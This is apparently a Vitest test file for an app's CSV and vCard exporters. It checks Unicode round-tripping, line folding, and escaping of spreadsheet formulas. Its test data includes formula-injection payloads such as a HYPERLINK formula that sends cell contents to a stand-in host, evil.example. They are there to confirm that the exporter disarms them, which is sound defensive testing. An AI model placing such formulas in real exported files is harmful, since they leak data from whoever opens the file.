import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from '../../src/exports/csv';
import { type Card, uuidFromId, vcards } from '../../src/exports/vcard';
import { newId } from '../../src/lib/crypto';
import { foldLine } from '../../src/lib/fold';
import { checkFolding, readCsv, readVcards } from './parse';

/** Values that break naive writers: non-Latin scripts, an emoji, separators, quotes, line breaks. */
const NASTY = [
  'Jörg Heinicke',
  'Łukasz Żółć',
  '李小龙',
  'Emoji 🎉 Guest',
  'Comma, Inc.',
  'Say "cheese"',
  'Semi; colon',
  'Line\nbreak',
  'CRLF\r\nbreak',
  'Back\\slash',
  '  padded  ',
  '',
];

/** Each of these would run as a formula in Excel, LibreOffice or Google Sheets without the apostrophe. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '=1+1',
  '+49 69 123456',
  '-2+3',
  '@SUM(A1:A9)',
  // Spreadsheets skip leading blanks of any kind before they look for a formula.
  ' =1+1',
  '   +1+1',
  '\u00a0=HYPERLINK("http://evil.example")',
  '\u3000@SUM(A1:A9)',
  '\u200b-2+3',
  // The full-width signs of CJK keyboards count as formula signs too.
  '＝HYPERLINK("http://evil.example")',
  '＋1+1',
  '－2+3',
  '＠SUM(A1:A9)',
  '\u3000＝1+1',
];

/** Values that only look close to a formula: they stay exactly as they are. */
const NOT_FORMULAS = ['a=b', ' plain', '\u00a0Name', 'Ｘ＝1', '1+1', 'Jörg = CTO', '#hashtag'];

describe('CSV writer, read back with csv-parse', () => {
  it('round-trips every nasty value in every column, with BOM and CRLF', () => {
    const rows = NASTY.map((v, i) => [v, `row ${i}`, v.toUpperCase()]);
    const text = toCsv(['Name', 'Index', 'Upper'], rows);
    expect(text.startsWith('\uFEFFName,Index,Upper\r\n')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    // No bare LF outside quoted fields: every record ends with CRLF.
    const parsed = readCsv(text);
    expect(parsed.header).toEqual(['Name', 'Index', 'Upper']);
    expect(parsed.rows).toHaveLength(NASTY.length);
    NASTY.forEach((v, i) => {
      expect(parsed.rows[i]).toEqual({ Name: v, Index: `row ${i}`, Upper: v.toUpperCase() });
    });
  });

  it('prefixes formula starts with an apostrophe and keeps the rest of the text', () => {
    const text = toCsv(
      ['Company'],
      FORMULAS.map((f) => [f]),
    );
    const parsed = readCsv(text).rows.map((r) => r.Company);
    expect(parsed).toEqual(FORMULAS.map((f) => `'${f}`));
    for (const cell of parsed) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(
      readCsv(
        toCsv(
          ['Company'],
          NOT_FORMULAS.map((v) => [v]),
        ),
      ).rows.map((r) => r.Company),
    ).toEqual(NOT_FORMULAS);
  });

  it('guards a formula start after every separator a spreadsheet may split on: , ; tab CR LF', () => {
    const cases: [string, string][] = [
      ['Chef;=HYPERLINK("http://evil.example/?x="&A1)', `Chef;'=HYPERLINK("http://evil.example/?x="&A1)`],
      ['a,=1+1', "a,'=1+1"],
      ['Müller, -2+3', "Müller,' -2+3"],
      ['a\t@SUM(A1:A9)', "a\t'@SUM(A1:A9)"],
      ['a\n=1+1', "a\n'=1+1"],
      ['a\r\n+1+1', "a\r\n'+1+1"],
      ['a\r=1', "a\r'=1"],
      ['Chef; "=1+1"', `Chef;' "=1+1"`],
      ['x;\u00a0＝1', "x;'\u00a0＝1"],
      ['=1;=2', "'=1;'=2"],
      ['\t=1+1', "'\t'=1+1"],
      ['\r=1+1', "'\r'=1+1"],
      ['\n=1+1', "'\n'=1+1"],
    ];
    const text = toCsv(
      ['Company'],
      cases.map(([v]) => [v]),
    );
    expect(readCsv(text).rows.map((r) => r.Company)).toEqual(cases.map(([, safe]) => safe));
    // Text with a separator but no formula after it is left exactly as typed.
    const plain = ['Sales - EMEA', 'a, b', 'Müller;Schmidt', 'x;#1', 'a,1+1', 'Wein; Segeln'];
    expect(
      readCsv(
        toCsv(
          ['Company'],
          plain.map((v) => [v]),
        ),
      ).rows.map((r) => r.Company),
    ).toEqual(plain);
  });

  it('leaves a phone number as typed in the phone column, and guards anything else there', () => {
    const phones = ['+49 69 123456', '+49 (0)69 123/456-7', '-49 30 98765', '(069) 123 456', '0171 2345678', ''];
    const notPhones = ['+49 69 =1+1', '=1+1', '@SUM(A1)', '+49 69 123456 ext. 2', '\u00a0+49 69 1'];
    const values = [...phones, ...notPhones];
    const text = toCsv(
      ['Phone', 'Company'],
      values.map((v) => [v, v]),
      0,
    );
    const rows = readCsv(text).rows;
    expect(rows.map((r) => r.Phone)).toEqual([
      ...phones,
      ...notPhones.map((v) => (/^[\s\u200b]*[=+\-@]/.test(v) ? `'${v}` : v)),
    ]);
    // The same values in a free-text column keep their guard.
    expect(rows.map((r) => r.Company)).toEqual(values.map((v) => (/^[\s]*[=+\-@]/.test(v) ? `'${v}` : v)));
    // The header is never treated as a phone number.
    expect(toCsv(['+Phone'], [], 0)).toBe("\uFEFF'+Phone\r\n");
  });

  it('quotes only when needed, doubling quotes (RFC 4180 §2.5–2.7)', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
    expect(csvField('a=b')).toBe('a=b');
  });
});

function card(name: string, extra: Partial<Card> = {}): Card {
  return { id: newId(), name, ...extra, category: 'Network Dinner, Frankfurt' };
}

describe('vCard 4.0 writer, read back with ical.js', () => {
  it('round-trips nasty values in every property and folds at 75 octets without splitting UTF-8', () => {
    const cards = NASTY.filter((v) => v.trim() !== '').map((v, i) =>
      card(v.trim(), {
        company: `${v} GmbH; Abteilung, Nord`,
        role: v,
        email: `guest${i}@example.com`,
        phone: '+49 (0)69 123/456',
        linkedin: 'https://www.linkedin.com/in/j%C3%B6rg-heinicke',
        note: `${v} — ${'李小龙🎉ö'.repeat(12)}`,
      }),
    );
    const text = vcards(cards);
    checkFolding(text);
    expect(text.split('\r\n').some((l) => l.startsWith(' '))).toBe(true);
    const parsed = readVcards(text);
    expect(parsed).toHaveLength(cards.length);
    // vCard has one newline escape (\n): CRLF and CR in a value come back as LF.
    const lf = (v?: string) => v?.replace(/\r\n|\r/g, '\n');
    parsed.forEach((p, i) => {
      const c = cards[i]!;
      expect(p.version).toBe('4.0');
      expect(p.uid).toBe(`urn:uuid:${uuidFromId(c.id)}`);
      expect(p.fn).toBe(lf(c.name));
      expect(p.org).toBe(lf(c.company));
      expect(p.title).toBe(lf(c.role));
      expect(p.email).toBe(c.email);
      expect(p.tel).toBe('tel:+49-69-123-456');
      expect(p.telType).toBe('uri');
      expect(p.url).toBe(c.linkedin);
      expect(p.note).toBe(lf(c.note));
      expect(p.categories).toEqual(['Network Dinner, Frankfurt']);
    });
  });

  it('takes "Family, Given" at its word for N and keeps FN as typed', () => {
    const names = ['Heinicke, Jörg', 'Żółć, Łukasz Marek', 'van der Berg, Anna', 'Heinicke,', 'Li, 小龙'];
    const parsed = readVcards(vcards(names.map((n) => card(n))));
    expect(parsed.map((p) => p.fn)).toEqual(names);
    expect(parsed.map((p) => p.n)).toEqual([
      ['Heinicke', 'Jörg', '', '', ''],
      ['Żółć', 'Łukasz Marek', '', '', ''],
      ['van der Berg', 'Anna', '', '', ''],
      ['Heinicke', '', '', '', ''],
      ['Li', '小龙', '', '', ''],
    ]);
  });

  it('splits N as family;given for Western names and keeps one-word names whole', () => {
    const parsed = readVcards(
      vcards([card('Jörg Heinicke'), card('Łukasz Żółć'), card('李小龙'), card('Anna Maria Berg')]),
    );
    expect(parsed.map((p) => p.n)).toEqual([
      ['Heinicke', 'Jörg', '', '', ''],
      ['Żółć', 'Łukasz', '', '', ''],
      ['李小龙', '', '', '', ''],
      ['Berg', 'Anna Maria', '', '', ''],
    ]);
  });

  it('leaves out empty properties and writes local numbers as text', () => {
    const [p] = readVcards(vcards([card('Solo', { phone: '069 123456' })]));
    expect(p).toMatchObject({ org: null, title: null, email: null, url: null, note: null, tel: '069 123456' });
    expect(p!.telType).toBe('text');
  });

  it('gives each ticket id a stable, distinct UUID', () => {
    const a = newId();
    expect(uuidFromId(a)).toBe(uuidFromId(a));
    expect(uuidFromId(a)).not.toBe(uuidFromId(newId()));
    expect(uuidFromId(a)).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
  });

  it('an empty list is an empty file', () => {
    expect(vcards([])).toBe('');
  });
});

describe('the fold guard (checkFolding) itself', () => {
  const long = `NOTE:${'🍷ö'.repeat(30)}`;
  /** folds after every n UTF-16 code units, blind to characters: what a careless writer would do */
  const foldByUnits = (line: string, n: number) => line.match(new RegExp(`[\\s\\S]{1,${n}}`, 'g'))!.join('\r\n ');

  it('passes the writer’s own fold, as text and as bytes', () => {
    const folded = foldLine(long);
    checkFolding(folded);
    checkFolding(new TextEncoder().encode(folded));
  });

  it('fails on a fold that splits a surrogate pair, although TextEncoder would hide it as U+FFFD', () => {
    const bad = foldByUnits(long, 24); // NOTE: + 19 units ends in the middle of the 7th 🍷
    expect(bad.split('\r\n').some((l) => /[\ud800-\udbff]$/.test(l))).toBe(true);
    // what the old guard did: encode each line, then decode it strictly. It passes.
    for (const l of bad.split('\r\n')) new TextDecoder('utf-8', { fatal: true }).decode(new TextEncoder().encode(l));
    expect(() => checkFolding(bad)).toThrow(/surrogate pair/);
  });

  it('fails on bytes folded in the middle of a multi-byte UTF-8 sequence', () => {
    const bytes = new TextEncoder().encode('NOTE:ö李🍷');
    for (const cut of [6, 8, 9, 11, 12, 13]) {
      const bad = new Uint8Array([...bytes.subarray(0, cut), 0x0d, 0x0a, 0x20, ...bytes.subarray(cut)]);
      expect(() => checkFolding(bad), `cut at byte ${cut}`).toThrow(/UTF-8 sequence/);
    }
    checkFolding(new Uint8Array([...bytes.subarray(0, 7), 0x0d, 0x0a, 0x20, ...bytes.subarray(7)]));
  });

  it('still fails on a line over 75 octets and a bare line break', () => {
    expect(() => checkFolding(`NOTE:${'x'.repeat(71)}`)).toThrow(/75 octets/);
    expect(() => checkFolding('NOTE:a\nb')).toThrow(/bare line break/);
  });
});
